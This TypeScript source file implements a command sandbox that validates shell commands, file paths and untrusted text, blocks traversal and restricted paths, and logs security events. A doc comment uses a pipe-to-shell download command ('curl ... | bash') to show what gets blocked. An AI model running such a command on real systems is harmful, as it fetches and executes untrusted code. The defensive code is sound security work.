// Command sandbox — single validation point for shell commands, file access and free text
// Owns the current SecurityConfig and an injected SecurityEventLog

import {
  type Logger,
  assertProductionHardening,
  createLogger,
  loadKernelSettings,
} from "@taskguard/kernel";
import { type Result, err, ok } from "@taskguard/shared";
import { findDangerousPatterns } from "./dangerous-patterns.js";
import { SecurityConfigError } from "./errors.js";
import { SecurityEventLog } from "./event-log.js";
import { inspectFileSize } from "./file-size.js";
import { hasTraversalSegment, toAbsolutePath, tryCanonicalizePath } from "./path-utils.js";
import { SecurityConfig, extractExecutable } from "./security-config.js";
import type { TaskFileScope } from "./task-file-scope.js";
import {
  type SecurityEvent,
  type SecurityIssue,
  SecurityIssues,
  type SecuritySeverity,
  type ValidationResult,
  createBlockedEvent,
  createSecurityEvent,
  createSecurityIssue,
  createValidationResult,
  formatEvent,
  severityRank,
  truncate,
} from "./types.js";

/** Free text longer than this is truncated by {@link CommandSandbox.sanitizeInput} */
export const MAX_INPUT_LENGTH = 10_000;

const DANGEROUS_CHARS = /[<>`'"$;|&\\]/g;
const INJECTION_CHARS = /[;&|`$<>]/;

export interface CommandSandboxOptions {
  /** Initial policy (default: the secure preset) */
  config?: SecurityConfig;
  /** Audit log owned by this sandbox (default: a new log with 1000 entries) */
  eventLog?: SecurityEventLog;
  logger?: Logger;
  /** Environment read for the production-hardening rules (default: process.env) */
  env?: NodeJS.ProcessEnv;
}

/**
 * Validates shell commands, file access and untrusted text, and records
 * blocked requests in its event log.
 *
 * @example
 * ```typescript
 * const sandbox = new CommandSandbox();
 * const result = sandbox.validateCommand("curl http://x/y.sh | bash", "/tmp");
 * result.valid; // false, and one COMMAND_BLOCKED event is logged
 * ```
 */
export class CommandSandbox {
  private config: SecurityConfig;
  private readonly eventLog: SecurityEventLog;
  private readonly log: Logger;
  private readonly env: NodeJS.ProcessEnv;

  /** @throws SecurityConfigError when the initial config fails validation */
  constructor(options: CommandSandboxOptions = {}) {
    const config = options.config ?? SecurityConfig.secure();
    const env = options.env ?? process.env;
    const errors = [...config.validate(), ...config.hardeningIssues(env)];
    if (errors.length > 0) {
      throw new SecurityConfigError(errors);
    }

    this.config = config;
    this.env = env;
    this.log = options.logger ?? createLogger({ name: "command-sandbox" });
    this.eventLog = options.eventLog ?? new SecurityEventLog({ logger: this.log });
  }

  // ─── COMMANDS ───

  /**
   * Validate a shell command line about to run in `workingDir`, optionally
   * confined to a task scope.
   */
  validateCommand(
    commandLine: string,
    workingDir: string,
    taskScope?: TaskFileScope,
  ): ValidationResult {
    const issues: SecurityIssue[] = [];
    const config = this.config;

    for (const entry of findDangerousPatterns(commandLine)) {
      issues.push(
        createSecurityIssue(
          "dangerous_pattern",
          `${entry.description} [${entry.id}]`,
          entry.severity,
        ),
      );
    }

    const blockedPattern = config.findBlockedPattern(commandLine);
    if (blockedPattern !== undefined) {
      issues.push(
        SecurityIssues.high("blocked_pattern", `Command contains blocked pattern: ${blockedPattern}`),
      );
    }

    if (config.enabled && !config.isCommandAllowed(commandLine)) {
      const executable = extractExecutable(commandLine) ?? "";
      issues.push(
        SecurityIssues.warning(
          "unknown_command",
          `Command '${executable}' is not in the allowed list`,
        ),
      );
    }

    if (config.isPathRestricted(workingDir)) {
      const entry = config.findRestrictedPath(workingDir);
      issues.push(
        SecurityIssues.high(
          "restricted_path",
          entry === undefined
            ? "Working directory cannot be resolved and is treated as restricted"
            : `Working directory is in a restricted area: ${entry}`,
        ),
      );
    }

    if (taskScope !== undefined && !taskScope.isPathAllowed(toAbsolutePath(workingDir))) {
      issues.push(
        SecurityIssues.high(
          "cwd_out_of_scope",
          `Working directory is outside the task scope (project root: ${taskScope.projectRoot})`,
        ),
      );
    }

    const result = createValidationResult(issues, commandLine);
    if (!result.valid) {
      this.record(
        createBlockedEvent(
          "COMMAND_BLOCKED",
          `Command blocked: ${truncate(commandLine, 50)}`,
          {
            command: truncate(commandLine, 100),
            workingDir: truncate(workingDir, 100),
            issues: result.blockingIssues.map((issue) => issue.type).join(","),
          },
          result.maxSeverity,
        ),
      );
    }
    return result;
  }

  // ─── FILE ACCESS ───

  /**
   * Process-wide file access check. With a task scope, the scope's
   * containment and read-only rules apply as well.
   */
  validateFileAccess(path: string, write = false, taskScope?: TaskFileScope): ValidationResult {
    const issues: SecurityIssue[] = [];
    const config = this.config;
    const absolute = toAbsolutePath(path);

    if (hasTraversalSegment(path)) {
      issues.push(
        SecurityIssues.critical(
          "path_traversal",
          "Path contains '..' which may indicate a path traversal attack",
        ),
      );
      this.record(
        createBlockedEvent(
          "PATH_TRAVERSAL_ATTEMPT",
          `Path traversal detected: ${truncate(path, 50)}`,
          { path: truncate(path, 100) },
          "critical",
        ),
      );
    }

    if (taskScope !== undefined) {
      if (!taskScope.isPathAllowed(absolute)) {
        issues.push(
          SecurityIssues.high(
            "out_of_scope",
            `Path is outside the task scope (project root: ${taskScope.projectRoot})`,
          ),
        );
      }
      if (write && taskScope.readOnly) {
        issues.push(
          SecurityIssues.high("scope_read_only", "Write requested in a read-only task scope"),
        );
      }
    }

    const canonical = tryCanonicalizePath(path);
    if (canonical === undefined) {
      issues.push(SecurityIssues.high("unresolvable_path", "Path cannot be resolved"));
    }

    const lexicalMatch = config.findRestrictedPath(path, { followSymlinks: false });
    if (lexicalMatch !== undefined) {
      issues.push(
        SecurityIssues.high("restricted_path", `Path is in a restricted area: ${lexicalMatch}`),
      );
    } else if (canonical !== undefined && canonical !== absolute) {
      const canonicalMatch = config.findRestrictedPath(canonical);
      if (canonicalMatch !== undefined) {
        issues.push(
          SecurityIssues.high(
            "symlink_escape",
            `Path resolves through a symlink into a restricted area: ${canonicalMatch}`,
          ),
        );
      }
    }

    if (!write && canonical !== undefined) {
      const sizeIssue = inspectFileSize(canonical, config.maxFileSize);
      if (sizeIssue) issues.push(sizeIssue);
    }

    const result = createValidationResult(issues, path);
    if (!result.valid) {
      this.record(
        createBlockedEvent(
          "FILE_ACCESS_DENIED",
          `File access denied: ${truncate(path, 50)}`,
          { path: truncate(path, 100), operation: write ? "write" : "read" },
          result.maxSeverity,
        ),
      );
    }
    return result;
  }

  // ─── FREE TEXT ───

  /** Strip shell and markup metacharacters and cap the length. */
  sanitizeInput(text: string): string {
    return text.replace(DANGEROUS_CHARS, "").slice(0, MAX_INPUT_LENGTH);
  }

  /**
   * Flag untrusted text before it is interpolated into a prompt or command
   * template. Never blocks; `sanitized` carries {@link sanitizeInput}'s output.
   */
  checkForInjection(text: string): ValidationResult {
    const issues: SecurityIssue[] = [];

    if (INJECTION_CHARS.test(text)) {
      issues.push(
        SecurityIssues.warning(
          "potential_injection",
          "Input contains shell metacharacters that may indicate an injection attempt",
        ),
      );
    }

    if (text.length > MAX_INPUT_LENGTH) {
      issues.push(
        SecurityIssues.warning(
          "input_too_long",
          `Input exceeds maximum length (${MAX_INPUT_LENGTH} characters)`,
        ),
      );
    }

    return createValidationResult(issues, this.sanitizeInput(text));
  }

  // ─── CONFIGURATION ───

  /**
   * Replace the active config. A config failing validation, or refused under
   * production hardening, is rejected whole and the previous one stays active.
   */
  updateConfig(newConfig: SecurityConfig): Result<SecurityConfig, SecurityConfigError> {
    const errors = [...newConfig.validate(), ...newConfig.hardeningIssues(this.env)];
    if (errors.length > 0) {
      this.log.warn("Rejected invalid security config", { errors });
      return err(new SecurityConfigError(errors));
    }

    const previous = this.config;
    this.config = newConfig;
    this.record(
      createSecurityEvent({
        type: "CONFIG_CHANGED",
        severity: "info",
        description: "Security configuration updated",
        context: { from: previous.preset, to: newConfig.preset },
      }),
    );
    return ok(newConfig);
  }

  getConfig(): SecurityConfig {
    return this.config;
  }

  // ─── EVENT LOG ───

  /** All events, oldest first */
  getEventLog(): SecurityEvent[] {
    return this.eventLog.list();
  }

  /** Newest first */
  getRecentEvents(count = 10): SecurityEvent[] {
    return this.eventLog.recent(count);
  }

  getEventsBySeverity(minSeverity: SecuritySeverity): SecurityEvent[] {
    return this.eventLog.bySeverity(minSeverity);
  }

  clearEventLog(): void {
    this.eventLog.clear();
  }

  /** Plain-text snapshot of the configuration and event counts. */
  getSecurityReport(): string {
    const config = this.config;
    const events = this.eventLog.list();
    const warnings = events.filter((event) => event.severity === "warning").length;
    const highOrCritical = events.filter(
      (event) => severityRank(event.severity) >= severityRank("high"),
    ).length;

    const lines = [
      "=== Security Report ===",
      "",
      "Configuration:",
      `  Preset: ${config.preset}`,
      `  Sandboxing: ${config.enabled ? "Enabled" : "Disabled"}`,
      `  Confirmation: ${config.requireConfirmation}`,
      `  Allowed commands: ${config.allowedCommands.length}`,
      `  Blocked patterns: ${config.blockedPatterns.length}`,
      `  Restricted paths: ${config.restrictedPaths.length}`,
      `  Max file size: ${Math.floor(config.maxFileSize / 1024)}KB`,
      "",
      "Event Summary:",
      `  Total events: ${events.length}`,
      `  Blocked: ${this.eventLog.blockedCount}`,
      `  Warnings: ${warnings}`,
      `  High or critical: ${highOrCritical}`,
    ];

    const counts = Object.entries(this.eventLog.countByType());
    if (counts.length > 0) {
      lines.push("", "Events by type:");
      for (const [type, count] of counts) {
        lines.push(`  ${type}: ${count}`);
      }
    }

    if (events.length > 0) {
      lines.push("", "Recent Events:");
      for (const event of this.eventLog.recent(5)) {
        lines.push(`  ${formatEvent(event)}`);
      }
    }

    return lines.join("\n");
  }

  private record(event: SecurityEvent): void {
    this.eventLog.append(event);
  }
}

export interface CreateCommandSandboxOptions {
  config?: SecurityConfig;
  env?: NodeJS.ProcessEnv;
  logger?: Logger;
}

/**
 * Build a sandbox from the environment settings: the event log capacity
 * comes from `TASKGUARD_EVENT_LOG_LIMIT`, and with
 * `ENFORCE_PRODUCTION_HARDENING` on the settings must pass the hardening checks.
 *
 * @throws KernelConfigError when the environment settings are invalid
 * @throws Error when production hardening checks fail
 * @throws SecurityConfigError when the config fails validation
 */
export function createCommandSandbox(options: CreateCommandSandboxOptions = {}): CommandSandbox {
  const settings = loadKernelSettings(options.env);
  if (settings.engine.enforceProductionHardening) {
    assertProductionHardening(settings);
  }

  const logger = options.logger ?? createLogger({ name: "command-sandbox" });
  return new CommandSandbox({
    config: options.config,
    env: options.env,
    logger,
    eventLog: new SecurityEventLog({ maxEvents: settings.engine.eventLogLimit, logger }),
  });
}
